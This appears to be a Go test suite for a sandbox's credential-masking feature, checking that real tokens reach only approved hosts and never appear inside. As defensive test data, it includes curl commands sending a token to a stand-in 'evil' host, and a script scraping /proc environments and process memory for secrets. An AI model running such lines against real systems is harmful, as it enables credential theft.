package system

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// realToken is what must never be inside.
const realToken = "ghp_Re4lRe4lRe4lRe4lRe4lRe4lRe4lRe4lRe4l"

// tokenHost is a host that wants a token, and says in its answer what it was sent.
type tokenHost struct {
	port int
	ca   string // outside of the workspace
	mu   sync.Mutex
	seen []string // of each request: the path, and what came with it
}

// took returns what it has seen since the last call.
func (a *tokenHost) took() string {
	a.mu.Lock()
	defer a.mu.Unlock()
	all := strings.Join(a.seen, "\n")
	a.seen = nil
	return all
}

func newTokenHost(t *testing.T, s *site) *tokenHost {
	t.Helper()
	a := &tokenHost{ca: filepath.Join(s.home, "roots.pem")}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	cert := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "stand-in"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		DNSNames: []string{goodName, evilName}, IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature}
	der, err := x509.CreateCertificate(rand.Reader, cert, cert, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	s.write(t, a.ca, string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})))
	server := httptest.NewUnstartedServer(http.HandlerFunc(a.serve(filepath.Join(s.home, "served"))))
	server.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	server.Config.ErrorLog = log.New(io.Discard, "", 0)
	server.StartTLS()
	t.Cleanup(server.Close)
	a.port = server.Listener.Addr().(*net.TCPAddr).Port
	s.env = append(s.env, "SSL_CERT_FILE="+a.ca)
	return a
}

func (a *tokenHost) serve(dir string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		user, password, _ := r.BasicAuth()
		a.mu.Lock()
		a.seen = append(a.seen, fmt.Sprintf("%s %s auth=%q basic=%s:%s key=%q body=%q", r.Method, r.URL.RequestURI(), r.Header.Get("Authorization"), user, password, r.Header.Get("X-Api-Key"), body))
		a.mu.Unlock()
		if strings.HasPrefix(r.URL.Path, "/repo.git/") {
			if password != realToken {
				w.Header().Set("WWW-Authenticate", `Basic realm="repo"`)
				http.Error(w, "who are you?", http.StatusUnauthorized)
				return
			}
			http.FileServer(http.Dir(dir)).ServeHTTP(w, r)
			return
		}
		w.Header().Set("X-You-Sent", r.Header.Get("Authorization"))
		fmt.Fprintf(w, "sent %s and %s, decoded %s, at %s\n%s\n", r.Header.Get("Authorization"), r.Header.Get("X-Api-Key"), password, r.URL.RequestURI(), body)
		w.(http.Flusher).Flush()
		// In two pieces, and in base64.
		io.WriteString(w, "pieces "+realToken[:20])
		w.(http.Flusher).Flush()
		io.WriteString(w, realToken[20:]+"\nbase64 "+base64.StdEncoding.EncodeToString([]byte("user:"+realToken))+"\n")
	}
}

// flags open the host, and another that is the same server.
func (a *tokenHost) flags(more ...string) []string {
	return append([]string{"--allow-domain", fmt.Sprintf("%s:%d", goodName, a.port), "--allow-domain", fmt.Sprintf("%s:%d", evilName, a.port),
		"--allow-cidr", fmt.Sprintf("127.0.0.1/32:%d", a.port)}, more...)
}

func (a *tokenHost) mask(name string) string { return fmt.Sprintf("%s=%s:%d", name, goodName, a.port) }

// try runs a shell line inside, in which URL and EVIL are the two hosts.
func (a *tokenHost) try(t *testing.T, s *site, line string, flags ...string) result {
	t.Helper()
	o := &outside{}
	return o.try(t, s, fmt.Sprintf("URL=https://%s:%d EVIL=https://%s:%[2]d; ", goodName, a.port, evilName)+line, a.flags(flags...)...)
}

// whole checks that nothing of the value was to be had inside.
func whole(t *testing.T, r result) {
	t.Helper()
	for _, text := range []string{r.out, r.err} {
		if strings.Contains(text, realToken) || strings.Contains(text, base64.StdEncoding.EncodeToString([]byte("user:" + realToken))[8:40]) {
			t.Errorf("the value is inside: %q", text)
		}
	}
}

// Curl sends a placeholder, the host gets the value, and what it says of it does not come
// back.
func TestMaskedToken(t *testing.T) {
	s := newSite(t)
	a := newTokenHost(t, s)
	s.env = append(s.env, "API_TOKEN="+realToken)
	for name, c := range map[string]struct{ line, want string }{
		"bearer":   {`curl -fsSi -m 10 -H "Authorization: Bearer $API_TOKEN" $URL/x`, `auth="Bearer ` + realToken},
		"basic":    {`curl -fsSi -m 10 -u "user:$API_TOKEN" $URL/x`, "basic=user:" + realToken},
		"a field":  {`curl -fsSi -m 10 -H "X-Api-Key: $API_TOKEN" $URL/x`, `key="` + realToken},
		"query":    {`curl -fsSi -m 10 "$URL/x?key=$API_TOKEN"`, "/x?key=" + realToken},
		"proxied":  {`curl -fsSi -m 10 --proxy $HTTPS_PROXY -H "X-Api-Key: $API_TOKEN" $URL/x`, `key="` + realToken},
		"straight": {`curl -fsSi -m 10 --noproxy '*' -H "X-Api-Key: $API_TOKEN" $URL/x`, `key="` + realToken},
	} {
		t.Run(name, func(t *testing.T) {
			a.took()
			r := a.try(t, s, `echo "have $API_TOKEN"; `+c.line, "--mask", a.mask("API_TOKEN"))
			if seen := a.took(); r.status != 0 || !strings.Contains(seen, c.want) {
				t.Errorf("status %d, seen %q: %s", r.status, seen, r.err)
			}
			whole(t, r)
			have := strings.TrimPrefix(strings.SplitN(r.out, "\n", 2)[0], "have ")
			if !strings.HasPrefix(have, "ghp_") || len(have) != len(realToken) || strings.Count(r.out, have) < 2 || !strings.Contains(r.out, "pieces "+have) {
				t.Errorf("the placeholder is %q, and in its place came %q", have, r.out)
			}
		})
	}
	// The control: without masking, all of it is inside.
	r := a.try(t, s, `echo "have $API_TOKEN"; curl -fsS -m 10 -H "Authorization: Bearer $API_TOKEN" $URL/x`, "--env", "API_TOKEN")
	if r.status != 0 || strings.Count(r.out, realToken) < 3 {
		t.Errorf("control: status %d, %q, %s", r.status, r.out, r.err)
	}
}

// Bodies are changed where that is asked for, whatever their framing.
func TestMaskedBodies(t *testing.T) {
	s := newSite(t)
	a := newTokenHost(t, s)
	s.env = append(s.env, "API_TOKEN="+realToken)
	line := `curl -fsS -m 10 -d "token=$API_TOKEN" $URL/x; curl -fsS -m 10 -H 'Transfer-Encoding: chunked' -H 'Content-Type: application/json' -d "{\"t\": \"$API_TOKEN\"}" $URL/y`
	policy := filepath.Join(s.home, "p.jsonc")
	for bodies, want := range map[bool]int{true: 2, false: 0} {
		s.write(t, policy, fmt.Sprintf(`{"credentials": {"envVars": [{"name": "API_TOKEN", "mode": "mask", "hosts": ["%s:%d"], "bodies": %v}]}}`, goodName, a.port, bodies))
		r := a.try(t, s, line, "--policy", policy)
		if seen := a.took(); r.status != 0 || strings.Count(seen, realToken) != want {
			t.Errorf("bodies %v: status %d, seen %q: %s", bodies, r.status, seen, r.err)
		}
		whole(t, r)
	}
}

// A placeholder for anybody else is stopped, told and recorded; the value is nowhere in
// the record.
func TestPlaceholderElsewhere(t *testing.T) {
	s := newSite(t)
	a := newTokenHost(t, s)
	s.env = append(s.env, "API_TOKEN="+realToken)
	for name, line := range map[string]string{
		"field": `curl -sS -m 10 -H "Authorization: Bearer $API_TOKEN" $EVIL/x`,
		"basic": `curl -sS -m 10 -u "user:$API_TOKEN" $EVIL/x`,
		"query": `curl -sS -m 10 "$EVIL/x?a=$API_TOKEN"`,
		"path":  `curl -sS -m 10 "$EVIL/$API_TOKEN"`,
	} {
		r := a.try(t, s, line, "--mask", a.mask("API_TOKEN"))
		want := fmt.Sprintf("a placeholder for API_TOKEN was sent to %s:%d", evilName, a.port)
		if seen := a.took(); seen != "" || !strings.Contains(r.out, want) || !strings.Contains(strings.Join(strings.Fields(r.err), " "), want) {
			t.Errorf("%s: seen %q, %q, %q", name, seen, r.out, r.err)
		}
	}
	// The control: the host is open.
	if r := a.try(t, s, `curl -fsS -m 10 $EVIL/x`, "--mask", a.mask("API_TOKEN")); r.status != 0 || a.took() == "" {
		t.Errorf("control: %d %s", r.status, r.err)
	}
	r := a.try(t, s, `curl -fsS -m 10 -H "X-Api-Key: $API_TOKEN" $URL/x`, "--mask", a.mask("API_TOKEN"), "--name", "recorded")
	if r.status != 0 {
		t.Fatal(r.err)
	}
	logs := s.run(t, "logs", "recorded")
	if !strings.Contains(logs.out, "API_TOKEN") || strings.Contains(logs.out, realToken) {
		t.Errorf("logs: %s", logs.out)
	}
	found := 0
	_ = filepath.WalkDir(s.state, func(path string, d os.DirEntry, err error) error {
		if b, err := os.ReadFile(path); err == nil {
			found++
			if strings.Contains(string(b), realToken) {
				t.Errorf("the value is in %s", path)
			}
		}
		return nil
	})
	if found < 5 {
		t.Errorf("only %d files below %s", found, s.state)
	}
}

// Nowhere inside is the value: not in the environment or the memory of any process, not
// in a file. A command that enters has the placeholder, too.
func TestMaskedIsNowhereInside(t *testing.T) {
	s := newSite(t)
	a := newTokenHost(t, s)
	s.env = append(s.env, "API_TOKEN="+realToken)
	secret := filepath.Join(s.home, ".config/tool/token")
	s.write(t, secret, "user = me\ntoken = "+realToken+"2\nagain = "+realToken+"2\n")
	policy := filepath.Join(s.home, "p.jsonc")
	s.write(t, policy, fmt.Sprintf(`{"credentials": {
		"envVars": [{"name": "API_TOKEN", "mode": "mask", "hosts": ["%s:%d"]}],
		"files": [{"path": "~/.config/tool/token", "mode": "mask", "hosts": ["%[1]s:%[2]d"], "extract": "token = (\\S+)"}]}}`, goodName, a.port))
	// The pattern is not the text, so that the search does not find itself.
	search := `P='Re4lRe4lRe4lRe4l[R]'; cat ` + secret + `
grep -la "$P" /proc/[0-9]*/environ /proc/[0-9]*/cmdline /tmp/* 2>/dev/null; grep -rlas "$P" "$HOME" . ` + filepath.Dir(secret) + ` /etc /run 2>/dev/null
/usr/bin/python3 - <<'X'
import glob, re
for p in glob.glob('/proc/[0-9]*'):
    try:
        maps, mem = open(p + '/maps'), open(p + '/mem', 'rb')
    except OSError:
        continue
    for l in maps:
        a = re.match(r'([0-9a-f]+)-([0-9a-f]+) r', l)
        if not a or '[v' in l: continue
        try:
            mem.seek(int(a[1], 16)); b = mem.read(int(a[2], 16) - int(a[1], 16))
        except (OSError, OverflowError, ValueError):
            continue
        if re.search(rb'(?:Re4l){8}', b): print('in the memory of', p)
X
echo searched`
	r := a.try(t, s, search, "--policy", policy)
	if lines := strings.Split(strings.TrimSpace(r.out), "\n"); r.status != 0 || len(lines) != 4 || lines[3] != "searched" || strings.Contains(r.out, "Re4l") ||
		!strings.HasPrefix(lines[1], "token = ghp_") || strings.TrimPrefix(lines[1], "token") != strings.TrimPrefix(lines[2], "again") {
		t.Errorf("status %d, %q, %s", r.status, r.out, r.err)
	}
	// The control.
	r = a.try(t, s, search, "--env", "API_TOKEN", "--allow-read", secret)
	for _, want := range []string{realToken + "2", "/environ", filepath.Base(secret), "in the memory of"} {
		if !strings.Contains(r.out, want) {
			t.Errorf("control: no %s in %q, %s", want, r.out, r.err)
		}
	}
	b := s.start(t, "ready\n", "run", "--policy", policy, "--name", "live", "--", "sh", "-c", "echo ready; cat >/dev/null; echo $API_TOKEN")
	entered := s.run(t, "exec", "live", "--", "sh", "-c", "echo $API_TOKEN")
	b.in.Close()
	first := b.await(t, "\n")
	if status := b.end(t); status != 0 || entered.status != 0 || entered.out != first || !strings.HasPrefix(first, "ghp_") || strings.Contains(first, "Re4l") {
		t.Errorf("exec has %q, the command %q; %s", entered.out, first, entered.err)
	}
}

// Git sends a token as Basic authentication: by a credential helper, and as a field.
func TestGitWithMaskedToken(t *testing.T) {
	s := newSite(t)
	a := newTokenHost(t, s)
	repo := filepath.Join(s.home, "served", "repo")
	s.write(t, repo+"/file", "served by git\n")
	for _, args := range [][]string{{"init", "-q", repo}, {"-C", repo, "add", "-A"}, {"-C", repo, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "x"},
		{"clone", "-q", "--bare", repo, repo + ".git"}, {"-C", repo + ".git", "update-server-info"}} {
		s.git(t, args...)
	}
	s.env = append(s.env, "GH_TOKEN="+realToken)
	for name, line := range map[string]string{
		"helper": `git -c credential.helper='!f() { echo username=x-access-token; echo "password=$GH_TOKEN"; }; f' clone -q $URL/repo.git cloned && cat cloned/file; s=$?; rm -rf cloned; exit $s`,
		"field":  `git -c http.extraHeader="Authorization: Basic $(printf %s "x-access-token:$GH_TOKEN" | base64 -w0)" clone -q $URL/repo.git cloned && cat cloned/file; s=$?; rm -rf cloned; exit $s`,
	} {
		a.took()
		r := a.try(t, s, "export GIT_TERMINAL_PROMPT=0; "+line, "--mask", a.mask("GH_TOKEN"))
		if seen := a.took(); r.status != 0 || r.out != "served by git\n" || !strings.Contains(seen, "basic=x-access-token:"+realToken) {
			t.Errorf("%s: status %d, %q, seen %q: %s", name, r.status, r.out, seen, r.err)
		}
		whole(t, r)
	}
}

// A value that can't be had stops the start, with the reason; so does a program that the
// inside could have put there.
func TestMaskedCommand(t *testing.T) {
	s := newSite(t)
	a := newTokenHost(t, s)
	policy := filepath.Join(s.home, "p.jsonc")
	helper := filepath.Join(s.home, "bin/helper")
	write := func(command string) {
		s.write(t, policy, fmt.Sprintf(`{"credentials": {"envVars": [{"name": "API_TOKEN", "mode": "mask", "hosts": ["%s:%d"], "command": [%q, "token"], "ttl": "1h"}]}}`, goodName, a.port, command))
	}
	script := func(name, text string) {
		s.write(t, name, "#!/bin/sh\n"+text)
		if err := os.Chmod(name, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	script(helper, "[ \"$1\" = token ] && [ \"$(pwd)\" = / ] && echo "+realToken)
	write(helper)
	r := a.try(t, s, `curl -fsS -m 10 -H "X-Api-Key: $API_TOKEN" $URL/x`, "--policy", policy)
	if seen := a.took(); r.status != 0 || !strings.Contains(seen, `key="`+realToken) {
		t.Errorf("status %d, seen %q, %s", r.status, seen, r.err)
	}
	whole(t, r)

	script(helper, "echo "+realToken+" >&2; exit 3")
	r = a.try(t, s, "echo started", "--policy", policy)
	r.complains(t, 69, "API_TOKEN", "exit status 3")
	whole(t, r)

	planted := filepath.Join(s.workspace, "helper")
	script(planted, "touch "+s.home+"/ran; echo "+realToken)
	if err := os.Symlink(planted, filepath.Join(s.home, "bin/by-link")); err != nil {
		t.Fatal(err)
	}
	for _, command := range []string{planted, filepath.Join(s.home, "bin/by-link")} {
		write(command)
		a.try(t, s, "echo started", "--policy", policy).complains(t, 69, "API_TOKEN", "the inside can write there")
	}
	// As good as a program of the workspace: what one is run by.
	s.write(t, helper, "#!"+planted+"\n")
	write(helper)
	a.try(t, s, "echo started", "--policy", policy).complains(t, 69, "API_TOKEN", "its interpreter", "commands inside can write")
	s.write(t, helper, "#!/usr/bin/env by-link\n")
	path := len(s.env)
	s.env = append(s.env, "PATH="+filepath.Join(s.home, "bin")+":/usr/bin:/bin")
	a.try(t, s, "echo started", "--policy", policy).complains(t, 69, "API_TOKEN", "exit status 127", "missing", filepath.Join(s.home, "bin"))
	s.env = s.env[:path]
	s.env = append(s.env, "OTHER=has "+realToken+" in it")
	a.try(t, s, "echo started", "--mask", a.mask("OTHER_TOKEN"), "--env", "OTHER").wants(t, 0)
	s.env = append(s.env, "OTHER_TOKEN="+realToken)
	a.try(t, s, "echo started", "--mask", a.mask("OTHER_TOKEN"), "--env", "OTHER").complains(t, 69, "OTHER", "the value of a masked credential is in it")
	write("helper")
	s.env = append(s.env, "PATH="+s.workspace+":/usr/bin:/bin")
	a.try(t, s, "echo started", "--policy", policy).complains(t, 69, "API_TOKEN", "not found")
	if _, err := os.Stat(filepath.Join(s.home, "ran")); err == nil {
		t.Error("a program of the workspace was run on the host")
	}
}

// After 401 the command is asked again, once.
func TestMaskedCommandIsRenewed(t *testing.T) {
	s := newSite(t)
	a := newTokenHost(t, s)
	repo := filepath.Join(s.home, "served", "repo.git")
	s.write(t, repo+"/HEAD", "ref: refs/heads/main\n")
	helper := filepath.Join(s.home, "bin/helper")
	s.write(t, helper, "#!/bin/sh\nif [ -e ~/expired ]; then echo "+realToken+"; else touch ~/expired; echo ghp_0ld0ld0ld0ld0ld0ld0ld0ld0ld0ld0ld0ld; fi\n")
	if err := os.Chmod(helper, 0o755); err != nil {
		t.Fatal(err)
	}
	policy := filepath.Join(s.home, "p.jsonc")
	s.write(t, policy, fmt.Sprintf(`{"credentials": {"envVars": [{"name": "API_TOKEN", "mode": "mask", "hosts": ["%s:%d"], "command": [%q]}]}}`, goodName, a.port, helper))
	r := a.try(t, s, `for i in 1 2; do curl -sS -m 10 -o /dev/null -w '%{http_code}\n' -u "u:$API_TOKEN" $URL/repo.git/HEAD; done`, "--policy", policy)
	if r.out != "401\n200\n" {
		t.Errorf("%q, %s", r.out, r.err)
	}
}

// Before the start the person hears what a mask can't do, and sees what it does.
func TestMaskIsTold(t *testing.T) {
	s := newSite(t)
	s.env = append(s.env, "API_TOKEN="+realToken)
	r := s.run(t, "run", "--mask", "API_TOKEN=api.stand-in.test", "--", "true")
	if r.status != 0 || !strings.Contains(r.err, "API_TOKEN") || !strings.Contains(r.err, "--allow-domain api.stand-in.test:443") {
		t.Errorf("%d %s", r.status, r.err)
	}
	for _, args := range [][]string{
		{"run", "--dry-run", "--mask", "API_TOKEN=api.stand-in.test", "--", "true"}, {"policy", "show", "--mask", "API_TOKEN=api.stand-in.test"},
		{"policy", "explain", "--mask", "API_TOKEN=api.stand-in.test", "env", "API_TOKEN"}, {"run", "--dry-run", "--json", "--mask", "API_TOKEN=api.stand-in.test", "--", "true"},
	} {
		r := s.run(t, args...)
		if r.status != 0 || !strings.Contains(r.out, "api.stand-in.test:443") || !strings.Contains(r.out, "a placeholder inside") || strings.Contains(r.out, realToken) {
			t.Errorf("%q: %d %q %s", args, r.status, clip(r.out), r.err)
		}
	}
	s.run(t, "run", "--mask", "NO_HOST_KNOWN", "--", "true").complains(t, 64, "hosts")
	s.run(t, "run", "--mask", "AWS_SECRET_ACCESS_KEY=a.test", "--", "true").complains(t, 64, "can't be put in")
	r = s.run(t, "run", "--tunnel-domain", "api.stand-in.test", "--mask", "API_TOKEN=api.stand-in.test", "--", "true")
	r.wants(t, 69)
	if !strings.Contains(r.err, "tunnelDomains api.stand-in.test") || !strings.Contains(r.err, "mask environment API_TOKEN") {
		t.Errorf("a contradiction: %s", r.err)
	}
	var p struct{ Network struct{ Inspect bool } }
	r = s.run(t, "run", "--dry-run", "--json", "--profile", "claude", "--mask", "ANTHROPIC_API_KEY", "--", "true")
	if err := json.Unmarshal([]byte(r.out), &p); err != nil || r.status != 0 {
		t.Errorf("%v: %s", err, r.err)
	}
}
